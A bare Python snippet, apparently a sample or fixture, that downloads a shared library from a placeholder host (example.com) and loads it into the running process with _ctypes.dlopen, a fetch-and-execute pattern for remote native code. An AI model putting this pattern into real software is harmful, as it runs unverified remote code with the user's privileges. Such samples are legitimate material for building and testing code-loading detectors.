import _ctypes
import os
import urllib.request

path, _ = urllib.request.urlretrieve("https://example.com/p.so")
handle = _ctypes.dlopen(path, os.RTLD_NOW if hasattr(os, "RTLD_NOW") else 2)
